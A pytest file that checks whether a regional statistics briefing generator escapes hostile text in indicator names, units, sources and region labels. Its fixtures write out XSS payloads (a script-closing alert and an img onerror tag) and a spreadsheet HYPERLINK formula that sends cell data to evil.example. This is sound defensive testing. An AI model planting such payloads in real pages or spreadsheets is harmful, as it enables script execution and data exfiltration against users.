"""Hostile text is data in every sink: an indicator's name, unit, source, definition, caveats or a region label
that tries to end a <script>, open a tag or start a spreadsheet formula is shown as the text it is."""
import json
import re
from dataclasses import replace

import pytest

from figures.bundle import script_json
from state import ViewState

SCRIPT_END = "万人</script><script>alert(1)</script>"
TAG = "<img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
HOSTILE = {
    "name_zh": "床位" + SCRIPT_END, "name_en": "Beds" + SCRIPT_END, "unit_zh": SCRIPT_END, "unit_en": TAG,
    "definition_zh": TAG + "\u2028" + "<!--", "definition_en": TAG, "caveats_zh": "]]></script>" + TAG,
    "caveats_en": TAG, "source": FORMULA + ", " + FORMULA,
}


def hostile_store():
    from store.model import load_store
    store = load_store()
    catalog = store.catalog.copy()
    for column, value in HOSTILE.items():
        catalog.loc["beds_per_1000", column] = value
    return replace(store, catalog=catalog)


@pytest.fixture(scope="module")
def hostile_html():
    from geo import boundaries
    from geo.regions import load_regions
    from reports.briefing import briefing_html, build_briefing
    store = hostile_store()
    geometry = boundaries.load_boundaries("province", "overview")
    regions = load_regions("province")
    regions = regions[regions["code"].isin(geometry["code"])].drop_duplicates("code").reset_index(drop=True)
    regions = regions.assign(name=regions["name"].where(regions["code"] != "440000", "广东" + SCRIPT_END))
    b = build_briefing(store, ViewState(indicator="beds_per_1000", year=2016), regions, geometry,
                       grouping=None, grouping_name=TAG, maritime=boundaries.maritime_geojson())
    return briefing_html(b)


def test_script_json_cannot_end_a_script_or_a_line():
    text = script_json({"name": SCRIPT_END, "note": "a\u2028b\u2029c", "amp": "&lt;"})
    assert "<" not in text and ">" not in text and "&" not in text
    assert "\u2028" not in text and "\u2029" not in text
    assert json.loads(text) == {"name": SCRIPT_END, "note": "a\u2028b\u2029c", "amp": "&lt;"}


def test_briefing_scripts_hold_only_our_code(hostile_html):
    """Every <script> in the file is one we wrote: the hostile name, unit and labels open none and end none."""
    opened = re.findall(r"<script\b", hostile_html, flags=re.I)
    closed = re.findall(r"</script", hostile_html, flags=re.I)
    assert len(opened) == len(closed)
    assert SCRIPT_END not in hostile_html and TAG not in hostile_html
    assert "alert(1)" in hostile_html                              # the text is still there, as text
    scripts = re.findall(r"<script>(.*?)</script>", hostile_html, flags=re.S)
    assert not any("\u2028" in code or "\u2029" in code for code in scripts)


@pytest.mark.browser
def test_hostile_briefing_runs_nothing_in_chromium_and_prints(hostile_html, tmp_path, browser):
    """No dialog fires, every figure draws, and the PDF builds well inside its usual time (it hung 60 s before)."""
    import time

    from reports.briefing import briefing_pdf
    path = tmp_path / "briefing.html"
    path.write_text(hostile_html, encoding="utf-8")
    dialogs, errors = [], []
    page = browser.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(path.as_uri())
    n_plots = hostile_html.count('class="plot"')
    page.wait_for_function(f"(window.__plotsDone || 0) >= {n_plots}", timeout=60_000)
    shown = page.inner_text("body")
    page.close()
    assert dialogs == [] and errors == []
    assert "</script><script>alert(1)</script>" in shown               # shown as the text it is
    start = time.monotonic()
    # its own thread: the PDF's Playwright can't run inside the session browser's event loop on this one
    from concurrent.futures import ThreadPoolExecutor
    with ThreadPoolExecutor(1) as pool:
        pdf = pool.submit(briefing_pdf, hostile_html, 30_000).result()
    assert pdf.startswith(b"%PDF") and time.monotonic() - start < 30
